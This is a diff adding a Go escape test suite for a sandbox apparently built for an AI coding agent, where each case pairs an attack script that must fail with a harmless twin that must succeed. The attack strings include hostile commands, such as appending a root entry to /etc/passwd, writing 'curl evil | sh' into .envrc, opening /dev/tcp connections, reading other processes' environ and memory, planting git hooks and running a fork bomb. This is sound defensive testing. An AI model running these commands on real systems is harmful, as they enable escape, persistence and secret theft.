@@ -1,0 +1,348 @@
+package sandbox
+
+import (
+	"context"
+	"fmt"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"golang.org/x/sys/unix"
+)
+
+// The escape suite attacks a workspace-write, no-network sandbox on this
+// kernel. Every case runs an attack that must fail, and its legitimate twin
+// inside the workspace that must still work, so a sandbox that simply breaks
+// everything cannot pass.
+
+// escEnv is one case's world: a workspace (the cwd and only writable root)
+// and an outside directory with a file in it, plus listeners and a process
+// outside the sandbox shared by all cases.
+type escEnv struct {
+	ws, out, outFile string
+	shared           *escShared
+}
+
+type escShared struct {
+	probe     string // this test binary, the attack program
+	tcpAddr   string // a TCP listener outside
+	udpAddr   string
+	udpGot    chan string
+	sockPath  string // a pathname unix socket outside, where services keep theirs
+	abstract  string // an abstract unix socket outside (with @)
+	victimPid int    // a process outside
+}
+
+type escapeCase struct {
+	name   string
+	prep   func(t *testing.T, e *escEnv)
+	attack string // a shell script; must fail
+	twin   string // a shell script; must succeed
+	// attackPolicy and twinPolicy adjust the policy of each run.
+	attackPolicy, twinPolicy func(*Policy)
+	limits                   Limits
+	// check looks outside after the attack: nothing may have changed.
+	check func(t *testing.T, e *escEnv)
+}
+
+func escapePolicy() Policy {
+	return Policy{Mode: WorkspaceWrite, ExcludeSlashTmp: true, ExcludeTmpdir: true}
+}
+
+func withNetwork(p *Policy) { p.Network = true }
+
+func unchanged(path, want string) func(t *testing.T, e *escEnv) {
+	return func(t *testing.T, e *escEnv) {
+		b, err := os.ReadFile(strings.ReplaceAll(strings.ReplaceAll(path, "$OUT", e.out), "$WS", e.ws))
+		if err != nil || string(b) != want {
+			t.Errorf("%s changed: %q %v", path, b, err)
+		}
+	}
+}
+
+func absent(path string) func(t *testing.T, e *escEnv) {
+	return func(t *testing.T, e *escEnv) {
+		p := strings.ReplaceAll(strings.ReplaceAll(path, "$OUT", e.out), "$WS", e.ws)
+		if _, err := os.Lstat(p); err == nil {
+			t.Errorf("%s was created", p)
+		}
+	}
+}
+
+func mkGit(t *testing.T, e *escEnv) {
+	for _, d := range []string{".git/hooks", "hooks"} {
+		if err := os.MkdirAll(filepath.Join(e.ws, d), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	os.WriteFile(filepath.Join(e.ws, ".git/config"), []byte("[core]\n"), 0o644)
+	os.WriteFile(filepath.Join(e.ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
+	os.WriteFile(filepath.Join(e.ws, "config"), []byte("[core]\n"), 0o644)
+}
+
+const (
+	afInet, afInet6, afPacket, afNetlink, afVsock, afAlg, afCan, afBluetooth, afXdp = 2, 10, 17, 16, 40, 38, 29, 31, 44
+	sockStream, sockDgram, sockRaw                                                  = 1, 2, 3
+)
+
+func socketCase(name string, fam, typ, proto int) escapeCase {
+	return escapeCase{
+		name:   name,
+		attack: fmt.Sprintf(`"$PROBE" socket %d %d %d`, fam, typ, proto),
+		twin:   `"$PROBE" socket 1 2 0`, // AF_UNIX datagram
+	}
+}
+
+func escapeCases() []escapeCase {
+	return []escapeCase{
+		// Filesystem: writing outside the writable roots.
+		{name: "write outside by absolute path", attack: `echo x > "$OUT/new"`, twin: `echo x > "$WS/new" && test -s "$WS/new"`, check: absent("$OUT/new")},
+		{name: "overwrite an outside file", attack: `echo evil > "$OUT/file"`, twin: `echo ok > "$WS/file"`, check: unchanged("$OUT/file", "outside\n")},
+		{name: "write outside through ..", attack: `mkdir -p sub && echo x > "sub/../$(realpath --relative-to="$WS" "$OUT")/dots"`, twin: `mkdir -p sub && echo x > sub/../dots && test -f dots`, check: absent("$OUT/dots")},
+		{name: "write through a symlink pointing out", attack: `ln -s "$OUT" link && echo x > link/via-link`, twin: `mkdir -p in && ln -s in inlink && echo x > inlink/f && test -f in/f`, check: absent("$OUT/via-link")},
+		{name: "hardlink an outside file in and write it", attack: `ln "$OUT/file" hl && echo evil >> hl`, twin: `echo a > a && ln a b && echo b >> b && grep -q b a`, check: unchanged("$OUT/file", "outside\n")},
+		{name: "rename a workspace file out", attack: `echo x > mine && mv mine "$OUT/moved"`, twin: `echo x > mine && mkdir -p d && mv mine d/moved && test -f d/moved`, check: absent("$OUT/moved")},
+		{name: "rename an outside file in", attack: `mv "$OUT/file" stolen`, twin: `echo x > x1 && mv x1 x2`, check: unchanged("$OUT/file", "outside\n")},
+		{name: "write via /proc/self/root", attack: `echo x > "/proc/self/root$OUT/procroot"`, twin: `echo x > "/proc/self/root$WS/procroot" && test -f procroot`, check: absent("$OUT/procroot")},
+		{name: "write via /proc/self/cwd after cd out", attack: `cd "$OUT" && echo x > /proc/self/cwd/proccwd`, twin: `mkdir -p s && cd s && echo x > /proc/self/cwd/proccwd && test -f "$WS/s/proccwd"`, check: absent("$OUT/proccwd")},
+		{name: "truncate an outside file", attack: `truncate -s 0 "$OUT/file"`, twin: `echo abc > t && truncate -s 0 t && test ! -s t`, check: unchanged("$OUT/file", "outside\n")},
+		{name: "delete an outside file", attack: `rm -f "$OUT/file" && test ! -e "$OUT/file"`, twin: `echo x > gone && rm gone && test ! -e gone`, check: unchanged("$OUT/file", "outside\n")},
+		{name: "chmod outside", attack: `chmod 777 "$OUT/file"`, twin: `echo x > m && chmod 700 m && test -x m`, check: func(t *testing.T, e *escEnv) {
+			if st, _ := os.Stat(e.outFile); st.Mode().Perm() != 0o644 {
+				t.Errorf("mode changed to %v", st.Mode())
+			}
+		}},
+		{name: "chown outside", attack: `chown "$(id -u):$(id -g)" "$OUT/file"`, twin: `echo x > o && chown "$(id -u):$(id -g)" o`},
+		{name: "utime outside", attack: `touch -d 2001-01-01 "$OUT/file"`, twin: `echo x > u && touch -d 2001-01-01 u`, check: func(t *testing.T, e *escEnv) {
+			if st, _ := os.Stat(e.outFile); st.ModTime().Year() == 2001 {
+				t.Error("outside mtime changed")
+			}
+		}},
+		{name: "write a system file", attack: `echo 'evil:x:0:0::/:/bin/sh' >> /etc/passwd`, twin: `echo 'fine' >> "$WS/passwd"`},
+		{name: "mknod a device", attack: `mknod dev c 1 3`, twin: `mkfifo fifo && test -p fifo`},
+		{name: "mount a filesystem", attack: `mkdir -p m && "$PROBE" syscall ` + strconv.Itoa(unix.SYS_MOUNT), twin: `mkdir -p m2 && test -d m2`},
+		{name: "unshare into new namespaces", attack: `unshare -Ur true`, twin: `sh -c true`},
+		{name: "write the host's /dev/shm", attack: `ls /dev/shm | grep -q warden-host-marker`, twin: `echo x > /dev/shm/private && test -f /dev/shm/private`, prep: func(t *testing.T, e *escEnv) {
+			os.WriteFile("/dev/shm/warden-host-marker", nil, 0o644)
+			t.Cleanup(func() { os.Remove("/dev/shm/warden-host-marker") })
+		}},
+		{name: "write /tmp when it is not a writable root", attack: `echo x > "$OUT/../tmp-escape"`, twin: `echo x > "$OUT/../tmp-granted"`, twinPolicy: func(p *Policy) { p.ExcludeSlashTmp = false }, check: absent("$OUT/../tmp-escape")},
+		{name: "file size limit", attack: `head -c 2000000 /dev/zero > big`, twin: `head -c 100000 /dev/zero > small`, limits: Limits{FileSize: 1 << 20}},
+		{name: "raise the core dump limit", attack: `ulimit -c unlimited`, twin: `test "$(ulimit -c)" = 0`},
+
+		// Protected paths inside the workspace.
+		{name: "write .git/hooks", prep: mkGit, attack: `printf '#!/bin/sh\nid\n' > .git/hooks/pre-commit`, twin: `printf '#!/bin/sh\n' > hooks/pre-commit`, check: absent("$WS/.git/hooks/pre-commit")},
+		{name: "write .git/config", prep: mkGit, attack: `printf '[core]\n\tfsmonitor = evil\n' >> .git/config`, twin: `printf '[x]\n' >> config`, check: unchanged("$WS/.git/config", "[core]\n")},
+		{name: "chmod inside .git", prep: mkGit, attack: `chmod 777 .git/config`, twin: `chmod 600 config`},
+		{name: "move .git away and replace it", prep: mkGit, attack: `mv .git old && mkdir .git`, twin: `mkdir -p notgit && mv notgit notgit2`, check: unchanged("$WS/.git/HEAD", "ref: refs/heads/main\n")},
+		{name: "delete .git", prep: mkGit, attack: `rm -rf .git; test ! -e .git/HEAD`, twin: `mkdir -p junk/a && rm -rf junk && test ! -e junk`, check: unchanged("$WS/.git/HEAD", "ref: refs/heads/main\n")},
+		{name: "replace .git with a symlink", prep: mkGit, attack: `rm -rf .git 2>/dev/null; ln -sfn "$OUT" .git && test -L .git`, twin: `ln -s "$OUT" outlink && test -L outlink`},
+		{name: "create a missing .git", attack: `mkdir -p .git/hooks && echo x > .git/hooks/post-checkout`, twin: `mkdir -p git/hooks && echo x > git/hooks/post-checkout`, check: absent("$WS/.git/hooks")},
+		{name: "git init a new repository", attack: `git init -q . && test -f .git/HEAD`, twin: `git init -q sub && test -f sub/.git/HEAD`},
+		{name: "create a missing .codex", attack: `mkdir .codex`, twin: `mkdir codex`},
+		{name: "create a missing .agents", attack: `mkdir -p .agents/x`, twin: `mkdir -p agents/x`},
+		{name: "create a missing .warden rule", attack: `mkdir -p .warden && echo 'prefix_rule(pattern=["rm"], decision="allow")' > .warden/rules`, twin: `mkdir -p warden && echo x > warden/rules`},
+		{name: "create .vscode/settings.json", attack: `mkdir -p .vscode && echo '{}' > .vscode/settings.json`, twin: `mkdir -p vscode && echo '{}' > vscode/settings.json`},
+		{name: "create .idea", attack: `mkdir -p .idea/x`, twin: `mkdir -p idea/x`},
+		{name: "create .envrc", attack: `echo 'curl evil | sh' > .envrc && test -s .envrc`, twin: `echo 'export A=1' > envrc`},
+		{name: "create .mcp.json", attack: `echo '{"mcpServers":{}}' > .mcp.json && test -s .mcp.json`, twin: `echo '{}' > mcp.json`},
+		{name: "create .gitmodules", attack: `printf '[submodule "x"]\n' > .gitmodules && test -s .gitmodules`, twin: `printf 'x\n' > gitmodules`},
+		{name: "write an existing .vscode", prep: func(t *testing.T, e *escEnv) {
+			os.MkdirAll(filepath.Join(e.ws, ".vscode"), 0o755)
+			os.WriteFile(filepath.Join(e.ws, ".vscode/tasks.json"), []byte("{}"), 0o644)
+		}, attack: `echo '{"evil":1}' > .vscode/tasks.json`, twin: `cat .vscode/tasks.json >/dev/null && echo '{}' > tasks.json`, check: unchanged("$WS/.vscode/tasks.json", "{}")},
+		{name: "write a gitdir: file's target", prep: func(t *testing.T, e *escEnv) {
+			os.MkdirAll(filepath.Join(e.ws, "store/hooks"), 0o755)
+			os.MkdirAll(filepath.Join(e.ws, "other/hooks"), 0o755)
+			os.WriteFile(filepath.Join(e.ws, ".git"), []byte("gitdir: store\n"), 0o644)
+		}, attack: `echo x > store/hooks/pre-commit`, twin: `echo x > other/hooks/pre-commit`, check: absent("$WS/store/hooks/pre-commit")},
+
+		// Network.
+		{name: "TCP connect", attack: `"$PROBE" dial-tcp "$TCP"`, twin: `"$PROBE" dial-tcp "$TCP"`, twinPolicy: withNetwork},
+		{name: "TCP listen", attack: `"$PROBE" listen-tcp`, twin: `"$PROBE" listen-tcp`, twinPolicy: withNetwork},
+		{name: "MPTCP connect", attack: `"$PROBE" dial-mptcp "$TCP"`, twin: `"$PROBE" dial-mptcp "$TCP"`, twinPolicy: withNetwork},
+		{name: "UDP send", attack: `"$PROBE" send-udp "$UDP"`, twin: `"$PROBE" send-udp "$UDP"`, twinPolicy: withNetwork},
+		{name: "UDP DNS query to a public resolver", attack: `"$PROBE" send-udp 8.8.8.8:53`, twin: `"$PROBE" socketpair`},
+		{name: "bash /dev/tcp", attack: `bash -c 'echo hi > /dev/tcp/${TCP%:*}/${TCP#*:}'`, twin: `bash -c 'echo hi > /dev/tcp/${TCP%:*}/${TCP#*:}'`, twinPolicy: withNetwork},
+		{name: "DNS lookup", attack: `getent hosts example.com`, twin: `getent hosts localhost`},
+		socketCase("raw ICMP socket", afInet, sockRaw, 1),
+		socketCase("IPv6 TCP socket", afInet6, sockStream, 0),
+		socketCase("AF_PACKET socket", afPacket, sockRaw, 0),
+		socketCase("AF_NETLINK socket", afNetlink, sockRaw, 0),
+		socketCase("AF_VSOCK socket", afVsock, sockStream, 0),
+		socketCase("AF_ALG socket", afAlg, 5, 0),
+		socketCase("AF_CAN socket", afCan, sockRaw, 1),
+		socketCase("AF_BLUETOOTH socket", afBluetooth, sockRaw, 0),
+		socketCase("AF_XDP socket", afXdp, sockRaw, 0),
+		{name: "pathname unix socket outside", attack: `"$PROBE" dial-unix "$SOCK"`, twin: `"$PROBE" unix-roundtrip "$WS/inside.sock"`},
+		{name: "abstract unix socket outside", attack: `"$PROBE" dial-unix "$ABSTRACT"`, twin: `"$PROBE" unix-roundtrip "@warden-inside-$$"`},
+		{name: "abstract unix socket outside with network on", attack: `"$PROBE" dial-unix "$ABSTRACT"`, attackPolicy: withNetwork, twin: `"$PROBE" unix-roundtrip "@warden-inside-$$"`, twinPolicy: withNetwork},
+
+		// Processes.
+		{name: "signal an outside process", attack: `"$PROBE" kill "$VICTIM"`, twin: `sleep 30 & "$PROBE" kill $!`, check: func(t *testing.T, e *escEnv) {
+			if unix.Kill(e.shared.victimPid, 0) != nil {
+				t.Error("the outside process died")
+			}
+		}},
+		{name: "kill every process", attack: `kill -9 -1; sleep 0.2; kill -0 "$VICTIM"`, twin: `sleep 30 & kill $! && wait`, check: func(t *testing.T, e *escEnv) {
+			if unix.Kill(e.shared.victimPid, 0) != nil {
+				t.Error("the outside process died")
+			}
+		}},
+		{name: "ptrace an outside process", attack: `"$PROBE" ptrace "$VICTIM"`, twin: `sleep 30 & kill -0 $!`},
+		{name: "ptrace a process inside", attack: `sleep 30 & "$PROBE" ptrace $!`, twin: `sleep 30 & kill -0 $! && kill $!`},
+		{name: "read an outside process's environ", attack: `cat "/proc/$VICTIM/environ" | tr '\0' '\n' | grep -q WARDEN_VICTIM`, twin: `cat /proc/self/environ | tr '\0' '\n' | grep -q PATH=`},
+		{name: "read the helper's environ and memory", attack: `cat /proc/1/environ >/dev/null || head -c1 /proc/1/mem > /dev/null`, twin: `cat /proc/self/environ >/dev/null`},
+		{name: "process_vm_readv", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_PROCESS_VM_READV), twin: `"$PROBE" getpid`},
+		{name: "secrets in the environment", attack: `test -n "$OPENAI_API_KEY$GITHUB_TOKEN$AWS_SECRET_ACCESS_KEY"`, twin: `test -n "$HOME$PATH"`},
+		{name: "TIOCSTI input injection", attack: `"$PROBE" tiocsti`, twin: `"$PROBE" tiocsti write`},
+		{name: "fork bomb", attack: `"$PROBE" fork 400`, twin: `"$PROBE" fork 10`, limits: Limits{Processes: 40}},
+		{name: "no capabilities left", attack: `chroot / true`, twin: `"$PROBE" caps`},
+		{name: "the helper's file descriptors", attack: `readlink /proc/1/fd/0 || readlink /proc/1/fd/3`, twin: `test "$(exec ls /proc/self/fd | tr '\n' ' ')" = "0 1 2 3 "`},
+
+		// Kernel attack surface.
+		{name: "io_uring", attack: `"$PROBE" io_uring`, twin: `cat /dev/null`},
+		{name: "bpf", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_BPF), twin: `"$PROBE" getpid`},
+		{name: "perf_event_open", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_PERF_EVENT_OPEN), twin: `"$PROBE" getpid`},
+		{name: "keyctl", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_KEYCTL), twin: `"$PROBE" getpid`},
+		{name: "userfaultfd", attack: `"$PROBE" syscall ` + strconv.Itoa(unix.SYS_USERFAULTFD), twin: `"$PROBE" getpid`},
+		{name: "x32 syscall numbers", attack: `"$PROBE" x32-getpid`, twin: `"$PROBE" getpid`},
+		{name: "clone into a new user namespace", attack: `"$PROBE" clone-newuser`, twin: `sh -c 'true & wait'`},
+		{name: "unusual personality", attack: `"$PROBE" personality 0x400000`, twin: `"$PROBE" personality 0xffffffff`},
+	}
+}
+
+func TestEscapeSuite(t *testing.T) {
+	if os.Getenv("WARDEN_ESCAPE_SKIP") != "" {
+		t.Skip("WARDEN_ESCAPE_SKIP set")
+	}
+	shared := startEscapeFixtures(t)
+	cases := escapeCases()
+	if len(cases) < 45 {
+		t.Fatalf("only %d escape cases", len(cases))
+	}
+	for _, c := range cases {
+		t.Run(strings.ReplaceAll(c.name, " ", "_"), func(t *testing.T) {
+			e := &escEnv{ws: t.TempDir(), out: t.TempDir(), shared: shared}
+			e.outFile = filepath.Join(e.out, "file")
+			if err := os.WriteFile(e.outFile, []byte("outside\n"), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			if c.prep != nil {
+				c.prep(t, e)
+			}
+			attack := escapeRun(t, e, c.attack, c.attackPolicy, c.limits)
+			if attack.ExitCode == 0 {
+				t.Errorf("attack succeeded:\n%s\n%s", c.attack, attack.Output)
+			}
+			if c.check != nil {
+				c.check(t, e)
+			}
+			twin := escapeRun(t, e, c.twin, c.twinPolicy, c.limits)
+			if twin.ExitCode != 0 {
+				t.Errorf("legitimate twin failed (exit %d):\n%s\n%s", twin.ExitCode, c.twin, twin.Output)
+			}
+		})
+	}
+}
+
+func escapeRun(t *testing.T, e *escEnv, script string, adjust func(*Policy), limits Limits) Result {
+	t.Helper()
+	pol := escapePolicy()
+	if adjust != nil {
+		adjust(&pol)
+	}
+	res, err := Run(context.Background(), Command{
+		Argv:   []string{"/bin/sh", "-c", script},
+		Cwd:    e.ws,
+		Policy: pol,
+		Limits: limits,
+		Helper: testHelper,
+		BaseEnv: append(os.Environ(),
+			"OPENAI_API_KEY=sk-test", "GITHUB_TOKEN=ghp_test", "AWS_SECRET_ACCESS_KEY=aws-test"),
+		Env: EnvPolicy{Set: map[string]string{
+			probeEnv: "1", "PROBE": e.shared.probe, "WS": e.ws, "OUT": e.out,
+			"TCP": e.shared.tcpAddr, "UDP": e.shared.udpAddr, "SOCK": e.shared.sockPath,
+			"ABSTRACT": e.shared.abstract, "VICTIM": strconv.Itoa(e.shared.victimPid),
+		}},
+		Timeout: 20 * time.Second,
+	})
+	if err != nil {
+		t.Fatalf("run %q: %v", script, err)
+	}
+	if res.TimedOut {
+		t.Fatalf("run %q timed out", script)
+	}
+	return res
+}
+
+// startEscapeFixtures starts what the attacks aim at, outside the sandbox.
+func startEscapeFixtures(t *testing.T) *escShared {
+	exe, err := os.Executable()
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := &escShared{probe: exe, udpGot: make(chan string, 16)}
+
+	tcp, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { tcp.Close() })
+	go acceptAll(tcp)
+	s.tcpAddr = tcp.Addr().String()
+
+	udp, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { udp.Close() })
+	s.udpAddr = udp.LocalAddr().String()
+
+	// Where services keep their sockets (tmux, ssh-agent): /tmp/DIR/SOCK.
+	sockDir, err := os.MkdirTemp("/tmp", "warden-esc-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.RemoveAll(sockDir) })
+	s.sockPath = filepath.Join(sockDir, "agent.sock")
+	us, err := net.Listen("unix", s.sockPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { us.Close() })
+	go acceptAll(us)
+
+	s.abstract = fmt.Sprintf("@warden-esc-%d", os.Getpid())
+	as, err := net.Listen("unix", s.abstract)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { as.Close() })
+	go acceptAll(as)
+
+	victim := exec.Command("sleep", "300")
+	victim.Env = append(os.Environ(), "WARDEN_VICTIM=1")
+	if err := victim.Start(); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { victim.Process.Kill(); victim.Wait() })
+	s.victimPid = victim.Process.Pid
+	return s
+}
+
+func acceptAll(l net.Listener) {
+	for {
+		c, err := l.Accept()
+		if err != nil {
+			return
+		}
+		c.Write([]byte("hi"))
+		c.Close()
+	}
+}
